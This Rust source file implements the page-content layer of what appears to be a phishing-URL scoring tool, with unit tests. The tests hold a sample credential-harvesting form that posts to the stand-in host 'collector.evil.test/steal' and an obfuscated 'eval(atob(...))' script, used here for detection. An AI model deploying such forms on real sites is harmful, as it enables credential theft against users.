use super::{LayerEvaluator, LayerResult};
use crate::config::{ContentPoints, RuleConfig, StatusThresholds};
use crate::enrichment::EnrichmentContext;
use crate::features::UrlFeatures;

/// Page content: credential harvesting forms, script obfuscation, and
/// forms posting off-host. Scores zero when no HTML was supplied.
pub struct ContentLayer {
    points: ContentPoints,
    thresholds: StatusThresholds,
    weight: f32,
}

impl ContentLayer {
    pub fn from_config(config: &RuleConfig) -> Self {
        Self {
            points: config.points.content.clone(),
            thresholds: config.status.content,
            weight: config.weights.content,
        }
    }
}

impl LayerEvaluator for ContentLayer {
    fn name(&self) -> &'static str {
        "content"
    }

    fn weight(&self) -> f32 {
        self.weight
    }

    fn evaluate(&self, features: &UrlFeatures, _ctx: &EnrichmentContext) -> LayerResult {
        let mut score = 0;
        let mut findings = Vec::new();

        if features.credential_form_count > 0 {
            score += self.points.credential_forms;
            findings.push(format!(
                "Page contains {} credential input field(s)",
                features.credential_form_count
            ));
        }

        if features.has_obfuscated_script {
            score += self.points.obfuscated_script;
            findings.push("Page scripts use obfuscation (eval/atob/charcode/hex escapes)".to_string());
        }

        if let Some(first_target) = features.external_post_targets.first() {
            score += self.points.external_post_targets;
            findings.push(format!(
                "Form submits to a different domain: {first_target}"
            ));
        }

        if features.hidden_field_count >= self.points.hidden_field_threshold {
            score += self.points.hidden_fields;
            findings.push(format!(
                "Page carries {} hidden input fields",
                features.hidden_field_count
            ));
        }

        LayerResult::build(
            score,
            self.weight,
            self.thresholds,
            findings,
            "No suspicious page content detected",
        )
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::features::FeatureExtractor;
    use crate::layers::LayerStatus;

    fn evaluate_with_html(html: &str) -> LayerResult {
        let config = RuleConfig::default();
        let features = FeatureExtractor::new(config.lists.clone())
            .extract("https://example.com/login", Some(html))
            .unwrap();
        ContentLayer::from_config(&config).evaluate(&features, &EnrichmentContext::unknown())
    }

    #[test]
    fn no_html_scores_zero() {
        let config = RuleConfig::default();
        let features = FeatureExtractor::new(config.lists.clone())
            .extract("https://example.com", None)
            .unwrap();
        let result =
            ContentLayer::from_config(&config).evaluate(&features, &EnrichmentContext::unknown());
        assert_eq!(result.score, 0);
        assert_eq!(result.status, LayerStatus::Pass);
    }

    #[test]
    fn credential_form_posting_off_host_fails() {
        let html = r#"
            <form action="https://collector.evil.test/steal">
              <input type="email" name="user">
              <input type="password" name="pass">
            </form>
        "#;
        let result = evaluate_with_html(html);
        // 28 (credential forms) + 22 (external post) = 50.
        assert_eq!(result.score, 50);
        assert_eq!(result.status, LayerStatus::Fail);
    }

    #[test]
    fn obfuscated_script_alone_warns() {
        let result = evaluate_with_html("<script>eval(atob('x'))</script>");
        assert_eq!(result.score, 32);
        assert_eq!(result.status, LayerStatus::Warn);
    }

    #[test]
    fn hidden_fields_below_threshold_ignored() {
        let result = evaluate_with_html(r#"<input type="hidden" name="a">"#);
        assert_eq!(result.score, 0);
    }
}
